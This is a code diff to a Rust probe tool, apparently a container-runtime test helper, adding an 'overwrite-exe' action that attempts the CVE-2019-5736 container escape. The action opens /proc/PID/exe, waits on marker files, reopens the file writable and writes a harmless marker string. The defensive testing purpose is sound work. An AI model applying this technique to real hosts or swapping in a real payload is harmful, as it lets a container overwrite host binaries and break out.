@@ -72,6 +72,11 @@
 //! kill PID SIG          kill(2)
 //! exit N                exit with status N, printing nothing
 //! exec PROG ARGS...     execv (prints JSON only on failure)
+//! overwrite-exe PID READY GO   CVE-2019-5736 attempt: open /proc/PID/exe O_PATH (retried
+//!                       for 10 s), create the file READY, wait (60 s) for the file GO,
+//!                       then open /proc/self/fd/N O_WRONLY and write "rt-probe" at offset
+//!                       0; + "opath", "open", "write": {"ok","errno"} each (ok is the
+//!                       write's success)
 //! ```
 use serde_json::{json, Map, Value};
 use std::ffi::CString;
@@ -109,6 +114,7 @@ fn main() {
             std::process::exit(code);
         }
         "exec" => act_exec(&rest),
+        "overwrite-exe" => act_overwrite_exe(&rest),
         other => {
             json!({"ok": false, "errno": libc::EINVAL, "error": format!("unknown action {other:?}")})
         }
@@ -971,4 +977,46 @@ fn probe(args: &[String]) -> Value {
             .unwrap_or(Value::Null),
     );
     Value::Object(o)
+}
+
+fn act_overwrite_exe(a: &[&str]) -> Value {
+    let (Some(pid), Some(ready), Some(go)) = (a.first(), a.get(1), a.get(2)) else {
+        return bad_usage("overwrite-exe PID READY GO");
+    };
+    let exe = cstr(&format!("/proc/{pid}/exe"));
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    let fd = loop {
+        // SAFETY: valid C string.
+        let fd = unsafe { libc::open(exe.as_ptr(), libc::O_PATH) };
+        if fd >= 0 || std::time::Instant::now() > deadline {
+            break fd;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    };
+    let opath = ret_json(fd as i64);
+    if fd < 0 {
+        return json!({"ok": false, "errno": opath["errno"], "opath": opath});
+    }
+    if let Err(e) = fs::write(ready, "") {
+        return json!({"ok": false, "errno": io_errno(&e), "opath": opath, "error": "READY"});
+    }
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    while !std::path::Path::new(go).exists() {
+        if std::time::Instant::now() > deadline {
+            return json!({"ok": false, "errno": libc::ETIMEDOUT, "opath": opath, "error": "GO"});
+        }
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
+    let reopen = cstr(&format!("/proc/self/fd/{fd}"));
+    // SAFETY: valid C string.
+    let w = unsafe { libc::open(reopen.as_ptr(), libc::O_WRONLY) };
+    let open = ret_json(w as i64);
+    if w < 0 {
+        return json!({"ok": false, "errno": open["errno"], "opath": opath, "open": open});
+    }
+    let data = b"rt-probe";
+    // SAFETY: valid buffer and fd.
+    let n = unsafe { libc::pwrite(w, data.as_ptr().cast(), data.len(), 0) };
+    let write = ret_json(n as i64);
+    json!({"ok": write["ok"], "errno": write["errno"], "opath": opath, "open": open, "write": write})
 }
